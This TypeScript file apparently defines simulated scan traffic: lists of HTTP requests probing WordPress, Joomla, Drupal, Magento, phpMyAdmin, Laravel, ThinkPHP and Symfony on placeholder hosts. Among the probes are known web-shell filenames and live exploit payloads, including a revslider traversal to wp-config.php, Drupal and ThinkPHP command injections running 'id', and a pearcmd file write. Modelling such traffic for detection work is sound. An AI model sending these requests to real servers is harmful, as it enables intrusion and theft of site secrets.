import { BORROWED, BROWSERS, LIBRARIES } from './agents.ts';
import { scan } from './kind.ts';

/** Scanners that look for content management systems, shops and PHP programs. */
export const CMS_SCANS = [
  scan(
    'WordPress login on another site',
    { on: ['api.example', 'shop.example', 'notes.example'], agents: BROWSERS, pace: 2, clients: 4 },
    `
    GET /wp-login.php
    GET /xmlrpc.php?rsd
    POST /xmlrpc.php
    POST /wp-login.php`,
  ),
  scan(
    'manifest of Live Writer',
    { on: ['shop.example', 'spa.example'], agents: BORROWED, pace: 0.3 },
    `
    GET //wp-includes/wlwmanifest.xml
    GET //xmlrpc.php?rsd
    GET //blog/wp-includes/wlwmanifest.xml
    GET //web/wp-includes/wlwmanifest.xml
    GET //wordpress/wp-includes/wlwmanifest.xml
    GET //2019/wp-includes/wlwmanifest.xml
    GET //shop/wp-includes/wlwmanifest.xml
    GET //wp1/wp-includes/wlwmanifest.xml
    GET //media/wp-includes/wlwmanifest.xml
    GET //cms/wp-includes/wlwmanifest.xml
    GET //sito/wp-includes/wlwmanifest.xml`,
  ),
  scan(
    'plugins with known holes',
    { on: ['press.example', 'news.example'], agents: BROWSERS, pace: 1 },
    `
    GET /wp-content/plugins/wp-file-manager/readme.txt
    GET /wp-content/plugins/duplicator/readme.txt
    GET /wp-content/plugins/revslider/temp/update_extract/revslider/update.php
    GET /wp-content/plugins/wp-automatic/inc/csv.php
    GET /wp-content/plugins/backup-backup/includes/backup-heart.php
    GET /wp-content/plugins/royal-elementor-addons/readme.txt
    GET /wp-content/plugins/bricks/readme.txt
    POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
    GET /wp-content/themes/seotheme/db.php?u
    GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php 400`,
  ),
  scan(
    'shells in WordPress folders',
    { on: ['news.example', 'press.example', 'board.example'], agents: BORROWED, pace: 0.2, clients: 3 },
    `
    GET /wp-content/plugins/hellopress/wp_filemanager.php
    GET /wp-content/uploads/index.php
    GET /wp-includes/css/index.php
    GET /wp-admin/js/widgets/about.php
    GET /wp-content/themes/twenty/404.php
    GET /wp-admin/maint/index.php
    GET /wp-includes/ID3/license.txt
    GET /wp-content/languages/about.php
    GET /wp-admin/network/cloud.php
    GET /wp-includes/Text/Diff/autoload_classmap.php
    GET /.well-known/pki-validation/about.php
    GET /.well-known/acme-challenge/cloud.php`,
  ),
  scan(
    'shells by name',
    { on: ['api.example', 'notes.example', 'clinic.example'], agents: BORROWED, pace: 0.3, clients: 3 },
    `
    GET /alfa.php
    GET /wso.php
    GET /shell.php
    GET /c99.php
    GET /r57.php
    GET /up.php
    GET /ws.php
    GET /mini.php
    GET /fm.php
    GET /radio.php
    GET /goods.php
    GET /xleet.php
    GET /gecko.php
    GET /lock360.php
    GET /simple.php
    GET /ioxi-o.php
    GET /adminfuns.php
    GET /file.php`,
  ),
  scan(
    'unfinished WordPress installations',
    { on: ['board.example', 'clinic.example'], agents: LIBRARIES, pace: 1, clients: 3 },
    `
    GET /wp-admin/install.php
    GET /wp-admin/setup-config.php
    GET /wordpress/wp-admin/setup-config.php?step=1
    GET /wp/wp-admin/install.php
    GET /blog/wp-admin/install.php?step=1`,
  ),
  scan(
    'users of a WordPress site',
    { on: ['press.example'], agents: BROWSERS, pace: 1, clients: 2 },
    `
    GET / 200
    GET /?author=1 301
    GET /?author=2 301
    GET /?author=3 404
    GET /?author=4 404
    GET /?author=5 404
    GET /?author=6 404
    GET /wp-json/wp/v2/users 200
    GET /?rest_route=/wp/v2/users 200
    GET /wp-json/wp/v2/users/1 200
    GET /author-sitemap.xml 404
    GET /readme.html 200
    GET /license.txt 200`,
  ),
  scan(
    'Joomla holes',
    { on: ['press.example', 'spa.example', 'clinic.example'], agents: BORROWED, pace: 1, clients: 2 },
    `
    GET /administrator/
    GET /administrator/manifests/files/joomla.xml
    GET /api/index.php/v1/config/application?public=true
    GET /configuration.php~
    GET /configuration.php.bak
    GET /index.php?option=com_jce&task=plugin&plugin=imgmanager
    GET /components/com_foxcontact/lib/uploader.php
    GET /index.php?option=com_fabrik&format=raw&task=plugin.pluginAjax
    GET /htaccess.txt
    GET /language/en-GB/en-GB.xml`,
  ),
  scan(
    'Drupal holes',
    { on: ['news.example', 'board.example'], agents: BORROWED, pace: 1 },
    `
    GET /CHANGELOG.txt
    GET /core/CHANGELOG.txt
    POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
    GET /sites/default/settings.php.bak
    POST /?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23markup%5D=id&name%5B%23type%5D=markup 200
    GET /sites/default/files/.ht.sqlite
    GET /core/install.php
    GET /modules/README.txt`,
  ),
  scan(
    'Magento',
    { on: ['press.example', 'api.example'], agents: BROWSERS, pace: 1 },
    `
    GET /magento_version
    GET /app/etc/local.xml
    GET /app/etc/env.php
    GET /downloader/index.php
    GET /rest/V1/directory/currency
    POST /rest/V1/guest-carts/1/estimate-shipping-methods
    GET /errors/503.php
    GET /pub/errors/report.php
    GET /var/export/export.csv`,
  ),
  scan(
    'other shops and boards',
    { on: ['shop.example', 'notes.example'], agents: BORROWED, pace: 1 },
    `
    GET /modules/columnadverts/uploadimage.php
    GET /modules/cartabandonmentpro/upload.php
    GET /admin/config.php
    POST /ajax/render/widget_tabbedcontainer_tab_panel
    GET /index.php?route=extension/module/tmdblog
    GET /vtigercrm/vtigerservice.php
    GET /a2billing/admin/Public/index.php
    GET /recordings/index.php
    GET /elfinder/php/connector.minimal.php
    GET /kcfinder/browse.php
    GET /ckeditor/filemanager/connectors/php/upload.php`,
  ),
  scan(
    'phpMyAdmin by name',
    { on: ['api.example', 'shop.example', 'clinic.example'], agents: BORROWED, pace: 0.2 },
    `
    GET /phpmyadmin/index.php?lang=en
    GET /phpMyAdmin/index.php?lang=en
    GET /pma/index.php?lang=en
    GET /PMA2/index.php?lang=en
    GET /dbadmin/index.php?lang=en
    GET /mysql/index.php?lang=en
    GET /sqlmanager/index.php?lang=en
    GET /phpmyadmin2018/index.php?lang=en
    GET /php-my-admin/index.php?lang=en
    GET /db/phpMyAdmin-5/index.php?lang=en
    GET /administrator/phpmyadmin/index.php?lang=en
    GET /myadmin/scripts/setup.php`,
  ),
  scan(
    'Adminer',
    { on: ['notes.example', 'api.example'], agents: LIBRARIES, pace: 1 },
    `
    GET /adminer.php
    GET /adminer/
    GET /adminer-4.8.1.php
    GET /adminer-4.7.7-mysql-en.php
    GET /_adminer.php
    GET /sql/adminer.php
    GET /ad.php
    GET /editor.php`,
  ),
  scan(
    'debug pages of Laravel',
    { on: ['api.example', 'board.example'], agents: BROWSERS, pace: 1 },
    `
    GET /_ignition/health-check
    POST /_ignition/execute-solution
    GET /telescope/requests
    GET /horizon/api/stats
    GET /log-viewer
    GET /_debugbar/open?op=get
    GET /public/_ignition/health-check
    GET /livewire/livewire.js`,
  ),
  scan(
    'PHPUnit left in production',
    { on: ['api.example', 'notes.example', 'news.example'], agents: BORROWED, pace: 0.4 },
    `
    POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/src/Util/PHP/eval-stdin.php
    GET /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /lib/phpunit/Util/PHP/eval-stdin.php
    GET /ws/ec/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /tests/vendor/phpunit/phpunit/LICENSE
    GET /vendor/composer/installed.json`,
  ),
  scan(
    'ThinkPHP',
    { on: ['shop.example', 'spa.example'], agents: BORROWED, pace: 1 },
    `
    GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello
    GET /public/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
    GET /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/<?echo(md5("hi"));?>+/tmp/index1.php
    GET /TP/public/index.php
    GET /thinkphp/html/public/index.php`,
  ),
  scan(
    'profiler of Symfony',
    { on: ['clinic.example', 'api.example'], agents: LIBRARIES, pace: 1 },
    `
    GET /app_dev.php
    GET /app_dev.php/_profiler/phpinfo
    GET /_profiler/phpinfo
    GET /_profiler/open?file=app/config/parameters.yml
    GET /_profiler/empty/search/results?limit=10
    GET /_fragment
    GET /index_dev.php
    GET /_wdt/0`,
  ),
];
